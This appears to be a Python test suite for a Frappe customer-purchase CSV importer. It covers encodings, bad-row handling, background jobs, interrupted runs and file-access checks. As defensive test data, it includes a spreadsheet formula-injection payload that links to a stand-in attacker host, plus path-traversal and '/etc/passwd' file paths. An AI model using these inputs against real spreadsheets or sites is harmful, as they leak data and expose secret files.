"""A file of purchases from the form: at once or in the background, refused as a whole or in part, and begun again."""

import csv
import io
import json
import os
from unittest.mock import patch

import frappe
from frappe.utils import add_to_date, now_datetime

from cs_center.services.customers import importing, recording
from cs_center.services.customers.import_files import defused, open_file
from cs_center.services.customers.importing import IMPORT
from cs_center.services.customers.purchases import PURCHASE
from cs_center.tests import factories
from cs_center.tests.base import SiteTestCase, create_user
from cs_center.tests.test_customers.purchase_rows import buy, purchases
from cs_center.tests.ticket_case import as_user

ACME = "Acme Imported"
MANAGER, OTHER_MANAGER, AGENT = "imports@service.example", "imports2@service.example", "clerk@service.example"
HEADING = "order_number,customer,purchased_on,amount"
REFUSE, KEEP = recording.REFUSE, recording.KEEP


class ImportCase(SiteTestCase):
	@classmethod
	def setUpClass(cls):
		cls.paths = set()
		cls.addClassCleanup(cls.remove_files)  # the last of all: the class's rollback moves files back
		super().setUpClass()
		create_user(MANAGER, "CS Manager")
		create_user(OTHER_MANAGER, "CS Manager")
		factories.create_agent(AGENT)
		factories.create_customer(ACME)
		frappe.db.commit()  # users cost seconds; they stay for the classes that come

	def setUp(self):
		super().setUp()
		frappe.db.delete(PURCHASE)
		factories.change_settings(tier_currency="CNY")
		frappe.db.commit()  # no real one, see SiteTestCase: a full rollback goes to here

	@classmethod
	def remove_files(cls):
		for path in cls.paths:
			if os.path.exists(path):
				os.remove(path)

	def file(self, text: str | bytes, **values) -> str:
		"""Address of an attached file."""
		content = text if isinstance(text, bytes) else text.encode()
		name = f"purchases-{frappe.generate_hash(length=8)}.csv"
		file = frappe.get_doc(
			{"doctype": "File", "file_name": name, "content": content, "is_private": 1, **values}
		).insert()
		self.paths.add(file.get_full_path())
		return file.file_url

	def make(self, text: str | bytes, when_bad: str = REFUSE):
		doc = {"doctype": IMPORT, "file": self.file(text), "when_rows_are_bad": when_bad}
		return frappe.get_doc(doc).insert()

	def imported(self, text: str | bytes, when_bad: str = REFUSE):
		"""The import after its run."""
		doc = self.make(text, when_bad)
		importing.start(doc.name)
		return self.fresh(doc)

	def fresh(self, doc):
		doc = frappe.get_doc(IMPORT, doc.name)
		if doc.problem_file:
			self.paths.add(frappe.get_doc("File", {"file_url": doc.problem_file}).get_full_path())
		return doc

	def numbers(self) -> list[str]:
		return [row.name for row in purchases()]


def lines(*rows: str, heading: str = HEADING) -> str:
	return "\n".join([heading, *rows]) + "\n"


def row(number: str, customer: str = ACME, day: str = "2026-03-01", amount: str = "10") -> str:
	return f"{number},{customer},{day},{amount}"


class TestImport(ImportCase):
	def test_a_small_file_is_imported_at_once(self):
		doc = self.imported(lines(row("I-1"), row("I-2")))
		self.assertEqual((doc.state, doc.total_rows, doc.imported_rows, doc.bad_rows), ("Done", 2, 2, 0))
		self.assertEqual(doc.message, "Imported rows: 2.")
		self.assertTrue(doc.started_at and doc.finished_at)
		self.assertFalse(doc.problem_file)
		stored = purchases()
		self.assertEqual([one.name for one in stored], ["I-1", "I-2"])
		self.assertEqual({(one.source, one.import_run) for one in stored}, {("Import", doc.name)})

	def test_a_chinese_file_of_another_encoding_is_imported_and_told(self):
		text = f"订单号;客户;下单日期;金额;退货;备注\nI-1;{ACME};2026/3/1;1,234.50;;快\nI-2;{ACME};2026.3.2;5;是;\n"
		doc = self.imported(text.encode("gb18030"))
		self.assertEqual([one.base_amount for one in purchases()], [1234.5, -5])
		self.assertEqual(
			doc.message.splitlines(),
			[
				"Imported rows: 2.",
				"Columns that were not read: 备注.",
				"The file was read as GB18030. Check a name with other than English letters.",
			],
		)

	def test_one_bad_row_refuses_the_whole_file_and_is_named(self):
		doc = self.imported(lines(row("I-1"), row("I-2", customer="Nobody"), row("I-3", amount="ten")))
		self.assertEqual((doc.state, doc.good_rows, doc.bad_rows, doc.imported_rows), ("Refused", 1, 2, 0))
		self.assertIn("Nothing was imported. Rows with a problem: 2 of 3.", doc.message)
		self.assertEqual(self.numbers(), [])
		told = json.loads(doc.problems)
		self.assertEqual([(one["row"], one["order_number"]) for one in told], [(3, "I-2"), (4, "I-3")])
		self.assertIn("There is no customer Nobody", told[0]["problem"])

	def test_the_good_rows_are_kept_where_this_was_chosen(self):
		doc = self.imported(lines(row("I-1"), row("I-2", customer="Nobody"), row("I-3")), KEEP)
		self.assertEqual((doc.state, doc.good_rows, doc.bad_rows, doc.imported_rows), ("Done", 2, 1, 2))
		self.assertIn("Imported rows: 2. Rows with a problem: 1.", doc.message)
		self.assertEqual(self.numbers(), ["I-1", "I-3"])

	def test_a_file_that_is_no_table_is_refused_with_a_sentence(self):
		for text, words in (
			("order_number,amount\n1,2\n", "These columns are missing: customer, purchased_on"),
			(lines(), "has a heading line but no rows"),
			(b"PK\x03\x04zip", "not a CSV file"),
			(lines('I-1,"Acme,2026-03-01,1'), "quotation marks in row 2"),
			(lines(row("I-1")).encode() + b"\xff\xff\xff\n", "neither UTF-8 nor GB18030"),
		):
			with self.subTest(words):
				doc = self.imported(text, KEEP)
				self.assertEqual(doc.state, "Refused")
				self.assertIn(words, doc.message)
				self.assertEqual(self.numbers(), [])

	def test_a_refused_file_is_corrected_and_started_again(self):
		doc = self.imported(lines(row("I-1"), row("I-2", amount="ten")))
		doc.file = self.file(lines(row("I-1"), row("I-2")))
		doc.save()
		self.assertEqual((doc.state, doc.bad_rows, doc.problems, doc.message), ("Draft", None, None, None))
		importing.start(doc.name)
		self.assertEqual(self.fresh(doc).state, "Done")

	def test_a_refused_file_is_imported_after_its_reason_is_gone(self):
		doc = self.imported(lines(row("I-1", customer="Late Customer")))
		self.assertEqual(doc.state, "Refused")
		factories.create_customer("Late Customer")
		importing.start(doc.name)
		self.assertEqual(self.fresh(doc).state, "Done")

	def test_what_is_imported_is_not_imported_again_and_its_file_stays(self):
		doc = self.imported(lines(row("I-1")))
		self.assert_refused(lambda: importing.start(doc.name), "is imported already", "new import")
		doc.file = self.file(lines(row("I-2")))
		self.assert_refused(doc.save, "has imported rows of its file already", "new import")


class TestProblemFile(ImportCase):
	def rows_of(self, doc) -> list[list[str]]:
		with open_file(doc.problem_file) as stream:
			return list(csv.reader(io.StringIO(stream.read().decode("utf-8-sig"))))

	def test_the_bad_rows_are_given_back_with_their_own_cells_and_the_problem(self):
		doc = self.imported(
			lines('I-1,"Nobody, Ltd",2026-03-01,10,fast', row("I-2") + ",slow", heading=f"{HEADING},Remark"),
			KEEP,
		)
		heading, bad = self.rows_of(doc)
		self.assertEqual(heading, [*HEADING.split(","), "Remark", "problem"])
		self.assertEqual(bad[:-1], ["I-1", "Nobody, Ltd", "2026-03-01", "10", "fast"])
		self.assertIn("There is no customer Nobody, Ltd", bad[-1])

	def test_the_file_is_private_and_belongs_to_the_import(self):
		doc = self.imported(lines(row("I-1", customer="Nobody")))
		file = frappe.get_doc("File", {"file_url": doc.problem_file})
		self.assertTrue(file.is_private and file.file_url.startswith("/private/files/"))
		self.assertEqual((file.attached_to_doctype, file.attached_to_name), (IMPORT, doc.name))
		for user, may in ((MANAGER, True), (AGENT, False)):
			with as_user(user):
				self.assertIs(bool(file.has_permission("read")), may)
		path = file.get_full_path()
		file.delete()
		self.assertFalse(os.path.exists(path))

	def test_a_formula_of_the_file_is_text_in_the_file_given_back(self):
		attack = '=HYPERLINK("http://evil.example/"&A1)'
		cell = '"' + attack.replace('"', '""') + '"'
		doc = self.imported(lines(f"+1-1,{cell},-2,@SUM(A1)"))
		_heading, bad = self.rows_of(doc)
		self.assertEqual(bad[:4], ["'+1-1", f"'{attack}", "'-2", "'@SUM(A1)"])
		self.assertFalse(bad[4].startswith(("=", "+", "-", "@")))

	def test_every_cell_that_a_spreadsheet_would_run_is_defused_and_no_other(self):
		for cell in ("=1", "+1", "-1", "@a", "\t=1", "\r=1", " =1", "＝1", "＋1", "－1", "＠a"):
			self.assertEqual(defused(cell), f"'{cell}")
		for cell in ("", "1", "a=1", "'=1", "Acme-1", "你好"):
			self.assertEqual(defused(cell), cell)

	def test_a_corrected_file_of_problems_is_imported_as_it_is(self):
		factories.create_customer("-Dash Traders")
		doc = self.imported(
			lines(row("=9", amount="ten"), row("I-2", customer="-Dash Traders", day="1/2/2026")), KEEP
		)
		with open_file(doc.problem_file) as stream:
			corrected = (
				stream.read().decode("utf-8-sig").replace(",ten,", ",7,").replace("1/2/2026", "2026-02-01")
			)
		again = self.imported(corrected)
		self.assertEqual((again.state, again.message), ("Done", "Imported rows: 2."))
		self.assertEqual(
			[(one.name, one.customer) for one in purchases()], [("=9", ACME), ("I-2", "-Dash Traders")]
		)


class TestBackground(ImportCase):
	def start(self, doc, enqueued: bool = False):
		with (
			patch.object(importing, "SMALL", 3),
			patch.object(frappe, "enqueue") as enqueue,
			patch.object(importing, "is_job_enqueued", return_value=enqueued),
		):
			importing.start(doc.name)
		return enqueue

	def test_a_longer_file_is_queued_once_and_imported_by_its_job(self):
		doc = self.make(lines(row("I-1"), row("I-2"), row("I-3")))
		(call,) = self.start(doc).mock_calls
		self.assertEqual(self.fresh(doc).state, "Queued")
		self.assertTrue(call.kwargs["deduplicate"] and call.kwargs["enqueue_after_commit"])
		self.assertIn(doc.name, call.kwargs["job_id"])
		call.args[0](call.kwargs["name"], call.kwargs["language"])
		self.assertEqual(self.fresh(doc).state, "Done")
		self.assertEqual(self.numbers(), ["I-1", "I-2", "I-3"])

	def test_a_long_file_of_old_line_ends_is_no_small_one(self):
		text = lines(*(row(f"I-{number}", day="2026-03-01" + " " * 200) for number in range(600)))
		doc = self.make(text.replace("\n", "\r"))
		with patch.object(frappe, "enqueue") as enqueue:
			importing.start(doc.name)
		self.assertTrue(enqueue.called)

	def test_what_is_under_way_is_not_started_changed_or_deleted(self):
		doc = self.make(lines(row("I-1"), row("I-2"), row("I-3")))
		self.start(doc)
		self.assert_refused(lambda: self.start(doc, enqueued=True), "is being imported already")
		with patch.object(importing, "is_job_enqueued", return_value=True):
			doc = self.fresh(doc)
			doc.when_rows_are_bad = KEEP
			self.assert_refused(doc.save, "is being imported")
			self.assert_refused(lambda: self.fresh(doc).delete(), "is being imported")

	def test_what_lost_its_worker_is_queued_again_by_the_scheduler_after_a_while(self):
		doc = self.make(lines(row("I-1")))
		with (
			patch.object(importing, "is_job_enqueued", return_value=False),
			patch.object(frappe, "enqueue") as enqueue,
		):
			frappe.db.set_value(IMPORT, doc.name, "state", "Running")
			self.assertEqual(importing.resume_interrupted(), [])
			long_ago = add_to_date(now_datetime(), minutes=-16)
			frappe.db.set_value(IMPORT, doc.name, "modified", long_ago, update_modified=False)
			self.assertEqual(importing.resume_interrupted(), [doc.name])
			self.assertEqual(enqueue.call_args.kwargs["name"], doc.name)
			self.assertEqual(importing.resume_interrupted(), [])

	def test_what_still_has_its_job_is_left_to_it(self):
		doc = self.make(lines(row("I-1")))
		frappe.db.set_value(
			IMPORT, doc.name, {"state": "Running", "modified": "2026-01-01"}, update_modified=False
		)
		with patch.object(importing, "is_job_enqueued", return_value=True):
			self.assertEqual(importing.resume_interrupted(), [])

	def test_progress_is_told_while_it_runs(self):
		doc = self.make(lines(*(row(f"I-{number}") for number in range(4))))
		seen = []
		real = importing._tell

		def tell(name, what, done, total):
			real(name, what, done, total)
			seen.append(importing.progress(name))

		with patch.object(importing, "_tell", tell), patch.object(recording, "BATCH", 2):
			importing.run(doc.name)
		self.assertEqual(
			[(one["what"], one["done"]) for one in seen],
			[("read", 4), ("checked", 4), ("recorded", 2), ("recorded", 4), ("done", 0)],
		)


class TestInterrupted(ImportCase):
	"""The process is gone in the middle: what was not committed is as if it had never been."""

	def die_after(self, doc, batches: int):
		real, left = recording._insert, [batches]

		def insert(*arguments):
			if not left[0]:
				raise KeyboardInterrupt
			left[0] -= 1
			real(*arguments)

		with (
			patch.object(recording, "_insert", insert),
			patch.object(recording, "BATCH", 2),
			self.assertRaises(KeyboardInterrupt),
		):
			importing.run(doc.name)
		frappe.db.rollback()

	def five_rows(self) -> str:
		return lines(*(row(f"I-{number}") for number in range(5)), row("I-9", amount="ten"))

	def test_a_file_to_be_refused_as_a_whole_leaves_nothing(self):
		doc = self.make(self.five_rows().replace("ten", "9"))
		self.die_after(doc, 2)
		self.assertEqual(self.numbers(), [])
		self.assertEqual(self.fresh(doc).state, "Running")
		importing.start(doc.name)
		self.assertEqual(self.fresh(doc).state, "Done")
		self.assertEqual(len(self.numbers()), 6)

	def test_where_good_rows_are_kept_a_new_start_goes_on(self):
		doc = self.make(self.five_rows(), KEEP)
		self.die_after(doc, 1)
		self.assertEqual(self.numbers(), ["I-0", "I-1"])
		before = purchases()
		self.assertEqual(self.fresh(doc).imported_rows, 2)
		importing.start(doc.name)
		doc = self.fresh(doc)
		self.assertEqual((doc.state, doc.imported_rows, doc.bad_rows), ("Done", 5, 1))
		self.assertEqual(purchases()[:2], before)

	def test_rows_of_an_interrupted_import_keep_it_from_becoming_another_files(self):
		doc = self.make(self.five_rows(), KEEP)
		self.die_after(doc, 1)
		doc = self.fresh(doc)
		doc.file = self.file(lines(row("I-7")))
		self.assert_refused(doc.save, "has imported rows of its file already")

	def test_an_error_is_told_and_logged_and_nothing_is_left(self):
		doc = self.make(lines(row("I-1")))
		with patch.object(recording, "_insert", side_effect=ValueError("the disk is full")):
			importing.start(doc.name)
		doc = self.fresh(doc)
		self.assertEqual((doc.state, self.numbers()), ("Failed", []))
		self.assertIn("Error Log", doc.message)
		self.assertIn("the disk is full", factories.error_log(f"{doc.name} failed")[0].error)
		importing.start(doc.name)
		self.assertEqual(self.fresh(doc).state, "Done")


class TestFiles(ImportCase):
	def test_a_public_file_becomes_private(self):
		url = self.file(lines(row("I-1")), is_private=0)
		doc = frappe.get_doc({"doctype": IMPORT, "file": url}).insert()
		self.assertTrue(doc.file.startswith("/private/files/"))
		self.paths.add(frappe.get_doc("File", {"file_url": doc.file}).get_full_path())
		self.assertFalse(frappe.db.exists("File", {"file_url": url}))
		importing.start(doc.name)
		self.assertEqual(self.fresh(doc).state, "Done")

	def test_another_persons_private_file_is_not_read(self):
		with as_user(OTHER_MANAGER):
			url = self.file(lines(row("I-1")))
		with as_user(MANAGER):
			doc = frappe.get_doc({"doctype": IMPORT, "file": url})
			self.assert_refused(doc.insert, "you cannot read it")

	def test_only_attached_files_are_read(self):
		for url in ("/private/files/../../site_config.json", "/etc/passwd", "/files/not-attached.csv"):
			with self.subTest(url):
				doc = frappe.get_doc({"doctype": IMPORT, "file": url})
				self.assert_refused(doc.insert, "not on this site")

	def test_an_attachment_that_lies_elsewhere_or_is_gone_is_not_read(self):
		for url in ("https://shop.example/a.csv", "/private/files/gone-since.csv"):
			file = frappe.new_doc("File")
			file.update(
				{"file_name": url.rpartition("/")[2], "file_url": url, "is_private": 1, "folder": "Home"}
			)
			file.db_insert()
			with self.subTest(url):
				doc = frappe.get_doc({"doctype": IMPORT, "file": url})
				self.assert_refused(doc.insert, "not on this site")

	def test_what_rest_sends_for_the_results_is_put_back(self):
		doc = frappe.get_doc(
			{"doctype": IMPORT, "file": self.file(lines(row("I-1"))), "state": "Done", "imported_rows": 9}
		).insert()
		self.assertEqual((doc.state, doc.imported_rows), ("Draft", None))
		doc.update({"state": "Failed", "message": "x", "bad_rows": 3})
		doc.save()
		self.assertEqual((doc.state, doc.message, doc.bad_rows or 0), ("Draft", None, 0))

	def test_an_import_with_purchases_is_not_deleted_under_them(self):
		doc = self.imported(lines(row("I-1")))
		self.assert_refused(doc.delete, "I-1", error=frappe.LinkExistsError)

	def test_a_duplicate_on_the_site_is_named(self):
		buy(ACME, "2026-01-01", 5, order_number="I-1")
		doc = self.imported(lines(row("I-1")))
		self.assertIn("There is an order I-1 already", json.loads(doc.problems)[0]["problem"])
